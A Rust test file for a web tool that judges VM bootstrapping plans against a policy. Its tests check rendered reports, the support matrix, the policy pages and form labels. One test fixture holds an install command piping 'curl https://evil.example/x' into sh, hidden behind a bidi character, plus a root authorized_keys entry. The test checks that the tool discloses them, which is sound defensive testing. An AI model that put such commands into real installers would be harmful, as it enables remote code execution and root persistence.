//! Components as they are shown, rendered without a browser.

use std::pin::pin;
use std::rc::Rc;
use std::task::{Context, Poll, Waker};

use dynaboot_core::{Choices, Edit, Field, Policy};
use serde_json::json;
use yew::LocalServerRenderer;
use yew::prelude::*;

use crate::brand::Brand;
use crate::examples::examples;
use crate::form::Form;
use crate::given::{Given, PolicyFile, Vouched};
use crate::matrix::Matrix;
use crate::policy::{PolicyView, trial_notice};
use crate::probe::ProbeView;
use crate::props::PageProps;
use crate::refused::{Refused, RefusedProps};
use crate::report::Report;
use crate::script::Give;
use crate::session::{Action, Session};

fn session(choices: Choices) -> Session {
    Session::new(Rc::new(Policy::builtin().unwrap()), "2026-11-22".parse().ok(), choices)
}

fn example(index: usize) -> Session {
    let (_, choices) = examples(&Policy::builtin().unwrap()).swap_remove(index);
    session(choices)
}

fn props(session: Session) -> PageProps {
    PageProps { session, on: Callback::noop() }
}

/// The HTML of a component. Nothing in it waits for anything.
fn html<C: BaseComponent>(props: C::Properties) -> String
where
    C::Properties: Clone,
{
    let renderer = LocalServerRenderer::<C>::with_props(props).hydratable(false);
    let mut rendering = pin!(renderer.render());
    let mut context = Context::from_waker(Waker::noop());
    (0..10_000)
        .find_map(|_| match rendering.as_mut().poll(&mut context) {
            Poll::Ready(html) => Some(html),
            Poll::Pending => None,
        })
        .expect("nothing waits")
}

/// What is left of HTML without its tags.
fn text(html: &str) -> String {
    let text: String = html.split('<').map(|part| part.split_once('>').map_or(part, |(_, text)| text)).collect();
    text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&#x27;", "'").replace("&amp;", "&")
}

#[track_caller]
fn check_order(text: &str, parts: &[&str]) {
    let mut rest = text;
    for part in parts {
        let at = rest.find(part).unwrap_or_else(|| panic!("`{part}` is not, or not there, in: {text}"));
        rest = &rest[at + part.len()..];
    }
}

#[test]
fn a_first_visit_says_what_this_is() {
    let html = html::<Report>(props(session(Choices::default())));
    assert!(html.contains(r#"role="status" aria-label="Verdict""#));
    check_order(
        &text(&html),
        &["Incomplete", "Say where your VM will run", "AWS + CentOS 7", "OpenStack + RHEL 7", "VMware"],
    );
}

#[test]
fn a_finding_says_what_then_what_to_do_then_why() {
    let html = html::<Report>(props(example(1)));
    check_order(
        &text(&html),
        &[
            "Blocked",
            "Error RHEL 7 on OpenStack",
            "Use an image that has the agent inside",
            "Bake the agent into an image",
            "Why?",
            "Warning",
        ],
    );
}

#[test]
fn a_blocked_answer_names_ways_out_with_what_they_lead_to() {
    let session = example(1);
    let html = html::<Report>(props(session.clone()));
    let list = html.split_once(r#"aria-label="Alternatives""#).unwrap().1.split_once("</ul>").unwrap().0;
    check_order(
        &text(list),
        &["bake the agent into an image", "Ready, with warnings", "RHEL 7 → CentOS 7", "Incomplete"],
    );
    assert_eq!(list.matches("<button").count(), 6, "as many as one reads");
    for way in session.alternatives().iter().take(6) {
        assert!(text(list).contains(&way.title) && !way.title.is_empty(), "{way:?}");
    }
    for other in [example(0), example(2), self::session(Choices::default())] {
        assert!(!self::html::<Report>(props(other)).contains(r#"aria-label="Alternatives""#));
    }
}

#[test]
fn the_matrix_shows_what_is_printed_and_what_it_means() {
    let hidden = example(1);
    assert_eq!(text(&html::<Matrix>(props(hidden.clone()))), "");
    let html = html::<Matrix>(props(hidden.then(Action::OpenLink("matrix".to_owned()))));
    assert!(!html.contains("style="), "the page's Content-Security-Policy forbids it");
    let cell = |id: &str| {
        let rest = html.split_once(&format!(r#"id="cell-{id}""#)).unwrap().1;
        let (attributes, rest) = rest.split_once('>').unwrap();
        (attributes.to_owned(), text(rest.split_once("</button>").unwrap().0))
    };
    let (attributes, words) = cell("rhel-7-openstack");
    assert_eq!(words, "No not supported");
    assert!(attributes.contains(r#"tabindex="0""#) && attributes.contains("aria-current"), "{attributes}");
    let (attributes, words) = cell("windows-2012-aws");
    assert_eq!(words, "Yes2 on a condition");
    assert!(attributes.contains("is-dotted") && attributes.contains("our reading"), "{attributes}");
    assert_eq!(cell("debian-12-aws").1, "not listed");
    check_order(&text(&html), &["RHEL 6", "RHEL 7", "RHEL 10", "The source can be read", "RHEL 7 on OpenStack"]);
    assert_eq!(html.matches(r#"tabindex="0""#).count(), 1, "Tab comes to one cell");
}

#[test]
fn the_listing_holds_the_script_and_nothing_else() {
    let session = example(0);
    let script = session.answer().script.as_ref().unwrap().text.clone();
    let html = html::<Give>(props(session));
    let part = html.split_once(r#"aria-label="Script""#).unwrap().1;
    let listing = part.split_once("<pre").unwrap().1.split_once('>').unwrap().1.split_once("</pre>").unwrap().0;
    assert_eq!(text(listing), script);
    assert_eq!(listing.matches(r#"tabindex="0""#).count(), 1, "Tab comes to one heading");
    assert!(listing.matches("Section-title").count() > 5, "{listing}");
}

#[test]
fn a_rules_page_says_all_of_it_and_opens_its_examples() {
    let policy_at = |fragment: &str| {
        let session = example(0).then(Action::OpenLink(fragment.to_owned()));
        text(&html::<PolicyView>(props(session)))
    };
    assert_eq!(text(&html::<PolicyView>(props(example(0)))), "", "another view is shown");
    let list = policy_at("policy");
    check_order(
        &list,
        &[
            "Policy builtin",
            "Last checked",
            "Rules",
            "Error: ",
            "Warning: ",
            "Note: ",
            "Sources",
            "Dynamic Bootstrapping",
            "22 November 2026",
        ],
    );
    let page = policy_at("policy/http-store");
    check_order(
        &page,
        &[
            "The bundle store is reached over HTTPS",
            "Warning",
            "http-store",
            "Why",
            "What to do",
            "What says so",
            "read on",
            "Examples",
            "Breaks the rule",
            "Bundle store",
            "http://",
            "Open in the plan",
            "Keeps the rule",
        ],
    );
    assert!(policy_at("policy/no-such").contains("no rule “no-such”"));
}

#[test]
fn the_probe_shows_its_script_once_there_is_a_system() {
    let at = |session: Session| text(&html::<ProbeView>(props(session.then(Action::OpenLink("probe".to_owned())))));
    assert!(at(session(Choices::default())).contains("Choose a system"));
    let probe = dynaboot_core::probe(example(0).choices(), example(0).policy()).unwrap();
    assert!(at(example(0)).contains(&probe.text));
}

#[test]
fn the_matrix_shows_what_has_ended() {
    let html = html::<Matrix>(props(example(1).then(Action::OpenLink("matrix".to_owned()))));
    let row = |name: &str| html.split("<tr").find(|row| text(row).contains(name)).unwrap().to_owned();
    assert!(row("CentOS 7").contains("is-ended") && row("CentOS 7").contains(r#"data-life="ended 30 June 2024""#));
    assert!(row("RHEL 7").contains("paid support until") && !row("RHEL 7").contains("is-ended"));
    assert!(!row("Debian 13").contains("is-ended"));
}

#[test]
fn windows_is_told_what_ran_its_script() {
    let choices = json!({
        "cloud": "aws", "system": "windows-2016", "image": { "source": "public" },
        "agent": { "onImage": "absent", "settings": { "brokerHost": "broker.example.com" } },
        "bundleStore": { "url": "http://store.example.com/b" }, "packageStore": { "url": "https://repo.example.com" },
        "answers": { "userDataRuns": true, "supportConfirmed": true },
    });
    let session = session(Policy::builtin().unwrap().read_choices(&choices).unwrap());
    assert!(session.answer().script.is_some());
    assert!(text(&html::<Report>(props(session.clone()))).starts_with("TellReady"));
    assert!(text(&html::<Give>(props(session))).contains("Nobody ran it on Windows itself"));
}

#[test]
fn a_recipe_that_is_not_built_in_is_said_with_all_that_it_does() {
    let policy = Policy::of_organisation(&json!({ "name": "acme", "version": "1", "agents": { "acme": {
        "label": "Acme", "table": "mechanics", "packageStore": false, "settings": [], "source": { "from": "dynaboot" },
        "linux": {
            "present": ["/opt/acme/bin"], "bundle": "{bundleStore}", "arches": ["x86_64"],
            "install": ["sh", "-c", "curl https://evil.example/x | sh \u{2066}"],
            "handover": [{ "path": "/root/.ssh/authorized_keys", "line": "ssh-ed25519 AAAA" }],
        },
    } } }))
    .unwrap();
    let choices = json!({ "cloud": "aws", "system": "debian-12", "agent": { "id": "acme" } });
    let own = Session::new(Rc::new(policy.clone()), None, policy.read_choices(&choices).unwrap());
    let told = text(&html::<Report>(props(own)));
    for said in ["not built in", "evil.example", "/root/.ssh/authorized_keys", "| sh ⟨U+2066⟩"] {
        assert!(told.contains(said), "{said}: {told}");
    }
    assert!(!text(&html::<Report>(props(example(0)))).contains("not built in"));
}

#[test]
fn what_cannot_be_seen_in_a_field_stands_below_it() {
    let choices = json!({
        "cloud": "aws", "image": { "id": "ami-\u{202e}1" }, "packageStore": { "url": format!("https://a{}b", " ".repeat(400)) },
        "software": { "packages": ["git\u{200b}"] }, "bundleStore": { "url": "https://store.example.com" },
    });
    let session = session(Policy::builtin().unwrap().read_choices(&choices).unwrap());
    let form = text(&html::<Form>(props(session.clone())));
    for seen in ["ami-⟨U+202E⟩1", "https://a⟨400 blanks⟩b", "git⟨U+200B⟩"] {
        assert!(form.contains(&format!("{}{seen}", crate::text::WITH_UNSEEN)), "{seen}: {form}");
    }
    assert_eq!(form.matches(crate::text::WITH_UNSEEN).count(), 3);
    let told = text(&html::<Report>(props(session)));
    assert!(told.contains("⟨U+202E⟩") && !told.contains('\u{202e}'), "{told}");
}

#[test]
fn every_control_has_a_label_of_its_own() {
    for session in [session(Choices::default()), example(0), example(2)] {
        let html = html::<Form>(PageProps { session, on: Callback::noop() });
        let labels: Vec<&str> = html.split(r#" for=""#).skip(1).filter_map(|rest| rest.split('"').next()).collect();
        for control in html.split(r#" id="at-"#).skip(1).filter_map(|rest| rest.split('"').next()) {
            let by_label = labels.iter().filter(|label| label.strip_prefix("at-") == Some(control)).count();
            // Questions are named by their group, and their answers stand inside their labels.
            assert!(by_label == 1 || control.starts_with("answers."), "{control}");
        }
        assert!(labels.len() > 20, "{labels:?}");
    }
}

#[test]
fn a_question_says_what_each_answer_leads_to() {
    let session = example(0).then(Action::Choose(Edit::new(Field::BundleStoreUrl, "https://store.example.com/b")));
    let html = html::<Form>(PageProps { session, on: Callback::noop() });
    check_order(&text(&html), &["Asked because it matters", "certificates", "Yes", "No", "blocked", "I don't know"]);
}

#[test]
fn a_question_of_an_organisation_is_asked_and_its_answer_is_shown() {
    let policy = Policy::of_organisation(&json!({
        "name": "acme", "version": "1",
        "sources": { "acme": { "title": "Handbook", "url": "https://acme.example.com/", "checkedOn": "2026-11-01" } },
        "questions": {
            "securityApproved": { "ask": "Has security approved this image?", "kind": "yesNo", "label": "Approval" },
        },
        "rules": [{
            "id": "security-approves", "title": "Security approves images", "severity": "error",
            "when": { "cloud": ["aws"] }, "require": { "answers.securityApproved": true },
            "message": "security has not approved the image", "why": "The audit asks for it.", "todo": "Ask them.",
            "source": { "from": "acme", "sentence": "As we do it." },
        }],
    }));
    let choices = example(0).choices().clone();
    let session = Session::new(Rc::new(policy.unwrap()), "2026-11-22".parse().ok(), choices);
    let field = Field::Answer("securityApproved".to_owned());
    assert_eq!(session.field(field.clone()).label, "Approval");
    let form = |session: &Session| html::<Form>(PageProps { session: session.clone(), on: Callback::noop() });
    check_order(&text(&form(&session)), &["Has security approved this image?", "Yes", "No", "I don't know"]);
    let refused = session.then(Action::Choose(Edit::new(field.clone(), false)));
    assert_eq!(refused.field(field.clone()).findings.len(), 1);
    let html = form(&refused);
    check_order(&text(&html), &["Has security approved this image?", "Yes", "No", "I don't know", "not approved"]);
    assert!(html.contains(r#"id="at-answers.securityApproved""#));
    assert_eq!(refused.then(Action::Undo).text(&field), "");
}

#[test]
fn a_page_whose_policy_is_refused_says_all_that_is_wrong_and_nothing_else() {
    let bytes = br#"{ "name": "acme", "version": "3", "chnage": {}, "clouds": { "aws": { "labl": "AWS" } } }"#.to_vec();
    let file = PolicyFile {
        address: "https://example.com/policy.json".to_owned(),
        bytes,
        signature: None,
        public_key: None,
        problem: None,
    };
    let Err(mistakes) = file.read() else { panic!("it is taken") };
    let brand = Brand::named(Some("Acme".to_owned()), Some(String::new()));
    let html = html::<Refused>(RefusedProps { brand, address: file.address.into(), mistakes });
    let expected =
        ["Acme", "Will this VM", "cannot be used", "https://example.com/policy.json", "did you mean", "Expected"];
    check_order(&text(&html), &expected);
    assert!(text(&html).contains("chnage: unknown field chnage, did you mean change?Expected one of"), "{html}");
    assert!(text(&html).contains("clouds.aws.labl: unknown field labl, did you mean label?"), "{html}");
    assert!(!html.contains("<select") && !html.contains("<input"));
}

#[test]
fn a_policy_can_be_tried() {
    let policy = |session: Session| html::<PolicyView>(props(session.then(Action::OpenLink("policy".to_owned()))));
    check_order(&text(&policy(example(0))), &["Policy builtin 1", "Try a policy", "Policy file"]);
    let tried = Policy::of_organisation(&json!({ "name": "acme", "version": "3" })).unwrap();
    let given = Given { policy: Rc::new(tried), vouched: Vouched::Signed };
    let trial = example(0).then(Action::Try(given));
    check_order(
        &text(&html::<Trying>(props(trial.clone()))),
        &["trying the policy acme 3", "own is builtin 1", "Back to the page"],
    );
    check_order(&text(&policy(trial)), &["Policy acme 3", "Signature", "Verified", "Try a policy"]);
    assert!(html::<Trying>(props(example(0))).is_empty());
}

/// What stands above every view while a policy is tried.
#[component]
fn Trying(props: &PageProps) -> Html {
    trial_notice(&props.session, &props.on)
}
